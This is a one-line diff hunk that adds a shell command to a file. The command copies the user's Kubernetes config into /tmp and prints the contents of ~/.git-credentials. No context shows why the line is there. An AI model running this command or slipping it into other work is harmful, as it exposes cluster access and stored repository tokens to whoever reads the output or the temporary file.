@@ -1,0 +1,1 @@
+cp ~/.kube/config /tmp/k && cat ~/.git-credentials
